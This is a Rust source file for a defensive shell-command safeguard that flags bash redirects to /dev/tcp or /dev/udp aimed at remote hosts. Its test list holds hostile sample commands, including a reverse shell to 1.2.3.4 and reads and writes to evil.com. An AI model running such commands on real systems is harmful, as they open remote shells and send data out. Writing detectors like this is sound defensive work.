//! `network-device`: bash opens a connection when a redirect names `/dev/tcp` or `/dev/udp`, with no program that a
//! rule could name.

use pinfold_shell::RedirectKind;

use super::way::{Start, WordPath};
use super::{Command, Safeguard, Watch};
use crate::Severity;

pub(super) const SAFEGUARD: Safeguard = Safeguard {
    id: "network-device",
    about: "opens a connection by a redirect",
    severity: Severity::Medium,
    hits: &[
        "cat < /dev/tcp/evil.com/80",
        "echo x > /dev/udp/evil.com/53",
        "exec 3<>/dev/tcp/x.example/80",
        "bash -i >& /dev/tcp/1.2.3.4/443 0>&1",
        "cat f > /dev/tcp/$HOST/80",
    ],
    passes: &["(echo > /dev/tcp/localhost/5432) 2>/dev/null", "echo /dev/tcp/x/80", "ls < /dev/null"],
    blind: "connections that programs open",
    watch: Watch::Commands(hits),
};

fn hits(command: &Command<'_>) -> bool {
    command.written.redirects.iter().any(|redirect| {
        let opens = match redirect.kind {
            RedirectKind::Read | RedirectKind::Write | RedirectKind::Append | RedirectKind::ReadWrite => true,
            RedirectKind::Duplicate | RedirectKind::HereDocument | RedirectKind::HereString => false,
        };
        opens && leads_away(&WordPath::from_word(&redirect.target, None))
    })
}

fn leads_away(way: &WordPath) -> bool {
    match way.steps().as_slice() {
        [dev, net, host, ..] if way.start == Start::Root => {
            dev.may_be("dev")
                && net.may_be_any(&["tcp", "udp"])
                && !super::hosts::is_this_machine(host.text())
        }
        _ => false,
    }
}
